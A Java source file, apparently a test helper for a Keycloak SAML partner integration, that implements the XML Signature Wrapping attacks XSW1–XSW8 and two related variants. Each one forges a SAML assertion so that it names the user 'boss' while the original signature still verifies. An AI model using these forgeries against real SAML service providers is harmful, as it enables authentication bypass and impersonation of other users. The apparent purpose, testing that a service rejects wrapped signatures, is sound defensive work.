package dev.cornerstone.keycloak.partner.saml;

import java.util.function.Consumer;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * The ways of signature wrapping that Somorovsky et al. name ("On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012), and
 * a few of two assertions beside each other. Rita has a signed assertion of her own and makes it say "boss"; what was signed stays
 * somewhere in the document, so that the signature still verifies.
 */
enum Wrapping implements Consumer<Document> {
    /** Needs a signed response: the signed one becomes part of the forged one's signature. */
    XSW1(true) {
        @Override
        void wrap(Document document, Element response) {
            Element original = (Element) response.cloneNode(true);
            Element signature = signature(response);
            forge(response);
            signature.appendChild(original);
        }
    },
    /** Needs a signed response: the signed one stands before the signature. */
    XSW2(true) {
        @Override
        void wrap(Document document, Element response) {
            Element original = (Element) response.cloneNode(true);
            original.removeChild(signature(original));
            forge(response);
            response.insertBefore(original, signature(response));
        }
    },
    XSW3 {
        @Override
        void wrap(Document document, Element response) {
            Element original = assertion(response);
            response.insertBefore(forged(original, false), original);
        }
    },
    XSW4 {
        @Override
        void wrap(Document document, Element response) {
            Element original = assertion(response);
            Element evil = forged(original, false);
            response.replaceChild(evil, original);
            evil.appendChild(original);
        }
    },
    XSW5 {
        @Override
        void wrap(Document document, Element response) {
            Element original = assertion(response);
            Element evil = forged(original, true);
            original.removeChild(signature(original));
            response.insertBefore(evil, original);
        }
    },
    XSW6 {
        @Override
        void wrap(Document document, Element response) {
            Element original = assertion(response);
            Element evil = forged(original, true);
            original.removeChild(signature(original));
            response.replaceChild(evil, original);
            signature(evil).appendChild(original);
        }
    },
    XSW7 {
        @Override
        void wrap(Document document, Element response) {
            Element original = assertion(response);
            Element extensions = document.createElementNS(Assertion.PROTOCOL, "samlp:Extensions");
            extensions.appendChild(forged(original, false));
            response.insertBefore(
                    extensions,
                    Assertion.children(response, Assertion.PROTOCOL, "Status").get(0));
        }
    },
    XSW8 {
        @Override
        void wrap(Document document, Element response) {
            Element original = assertion(response);
            Element evil = forged(original, true);
            original.removeChild(signature(original));
            response.replaceChild(evil, original);
            Element object = document.createElementNS(Assertion.SIGNATURE, "dsig:Object");
            object.appendChild(original);
            signature(evil).appendChild(object);
        }
    },
    FORGED_AFTER_THE_SIGNED_ONE {
        @Override
        void wrap(Document document, Element response) {
            response.appendChild(forged(assertion(response), false));
        }
    },
    /** Both have the identifier that the signature names. */
    SAME_IDENTIFIER_TWICE {
        @Override
        void wrap(Document document, Element response) {
            Element original = assertion(response);
            Element evil = forged(original, true);
            evil.setAttribute("ID", original.getAttribute("ID"));
            response.insertBefore(evil, original);
        }
    };

    private final boolean ofResponse;

    Wrapping() {
        this(false);
    }

    Wrapping(boolean ofResponse) {
        this.ofResponse = ofResponse;
    }

    boolean isOfResponse() {
        return ofResponse;
    }

    @Override
    public void accept(Document document) {
        wrap(document, document.getDocumentElement());
    }

    abstract void wrap(Document document, Element response);

    private static Element assertion(Element response) {
        return Assertion.children(response, Assertion.SAML, "Assertion").get(0);
    }

    static Element signature(Element signed) {
        return Assertion.children(signed, Assertion.SIGNATURE, "Signature").get(0);
    }

    private static Element forged(Element original, boolean withSignature) {
        Element evil = (Element) original.cloneNode(true);
        evil.setAttribute("ID", "ID_forged");
        if (!withSignature) {
            evil.removeChild(signature(evil));
        }
        saysBoss(evil);
        return evil;
    }

    private static void forge(Element response) {
        response.setAttribute("ID", "ID_forged");
        saysBoss(assertion(response));
    }

    static void saysBoss(Element assertion) {
        assertion
                .getElementsByTagNameNS(Assertion.SAML, "NameID")
                .item(0)
                .getFirstChild()
                .setNodeValue("boss");
    }
}
